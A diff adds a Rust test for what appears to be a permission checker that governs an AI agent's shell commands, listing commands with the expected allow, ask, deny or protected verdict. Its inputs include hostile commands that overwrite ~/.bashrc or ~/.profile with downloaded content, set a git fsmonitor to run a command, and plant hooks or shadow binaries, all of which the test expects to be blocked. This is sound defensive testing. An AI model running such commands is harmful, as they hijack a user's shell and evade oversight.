@@ -364,3 +364,31 @@ fn code_stored_in_a_variable_and_evaluated_later_is_not_read_as_harmless() {
         (Default, echo, Exec("echo $((1 + 2)); ls"), Allow),
     ]);
 }
+
+#[test]
+#[rustfmt::skip]
+fn writes_through_arguments_global_options_and_plan_mode_found_by_review() {
+    let git: &[&str] = &["allow:bash(git:*)", "deny:bash(git push:*)"];
+    run(&[
+        (Bypass, &[], Exec("perl -pi -e 's/^/x/' ~/.bashrc"), Floor("~/.bashrc")),
+        (Bypass, &[], Exec("sed -Ei 's/a/b/' ~/.bashrc"), Floor("~/.bashrc")),
+        (Bypass, &[], Exec("sed --in-place=.bak s/a/b/ ~/.bashrc"), Floor("~/.bashrc")),
+        (Bypass, &[], Exec("curl -sSLo ~/.bashrc http://x.example/a"), Floor("~/.bashrc")),
+        (Bypass, &[], Exec("wget -O ~/.profile http://x.example/a"), Floor("~/.profile")),
+        (Bypass, &[], Exec("sort -o ~/.profile notes"), Floor("~/.profile")),
+        (Bypass, &[], Exec("git -C . config core.fsmonitor 'touch x'"), Floor(".git/config")),
+        (Bypass, &[], Exec("touch .git/hooks/pre-commit"), Floor("protected")),
+        (Bypass, &[], Exec("chmod +x .git/hooks/pre-commit"), Floor("protected")),
+        (Bypass, &[], Exec("echo x > ~/.local/bin/ls"), Floor("protected")),
+        (Default, &["allow:bash(sed:*)"], Exec("sed -Ei s/a/b/ /etc/hosts"), Ask("outside the workspace")),
+        (Default, &["allow:bash(sed:*)"], Exec("sed -i s/a/b/ src/a.rs"), Allow),
+        (Default, &["allow:bash(curl:*)"], Exec("curl -o out.json http://x.example/a"), Allow),
+        (Default, git, Exec("git -C . push"), Deny("git push")),
+        (Default, git, Exec("git --no-pager push origin main"), Deny("git push")),
+        (Default, git, Exec("git -c x=y push"), Deny("git push")),
+        (Default, git, Exec("git -C . status"), Allow),
+        (Plan, &[], Edit("write_file", &["~/.bashrc"]), Deny("plan mode")),
+        (Plan, &[], Exec("echo x >> ~/.bashrc"), Deny("plan mode")),
+        (Plan, &["ask:bash(git status)"], Exec("git status"), Deny("plan mode")),
+    ]);
+}
